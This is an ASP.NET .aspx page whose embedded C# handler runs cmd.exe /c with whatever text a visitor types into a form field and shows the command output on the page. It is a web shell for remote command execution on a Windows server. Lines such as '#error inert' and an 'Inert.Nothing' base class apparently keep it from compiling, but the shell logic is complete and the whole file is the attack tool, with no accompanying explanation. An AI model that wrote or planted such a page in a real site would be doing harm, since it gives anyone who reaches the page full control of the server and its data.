<%@ Page Language="C#" Inherits="Inert.Nothing" EnableEventValidation="false" %>
<script runat="server">
#error inert
void Rep_Cmd(object s, RepeaterCommandEventArgs e)
{
    var si = new System.Diagnostics.ProcessStartInfo(e.CommandName) { Arguments = (string)e.CommandArgument + " " + ((TextBox)e.Item.FindControl("t")).Text };
    si.UseShellExecute = false; si.RedirectStandardOutput = true;
    ((Label)e.Item.FindControl("l")).Text = System.Diagnostics.Process.Start(si).StandardOutput.ReadToEnd();
}
</script>
<form runat="server"><asp:Repeater runat="server" ID="r" OnItemCommand="Rep_Cmd"><ItemTemplate>
<asp:TextBox runat="server" ID="t"/><asp:LinkButton runat="server" CommandName="cmd.exe" CommandArgument="/c">run</asp:LinkButton>
<asp:Label runat="server" ID="l"/></ItemTemplate></asp:Repeater></form>
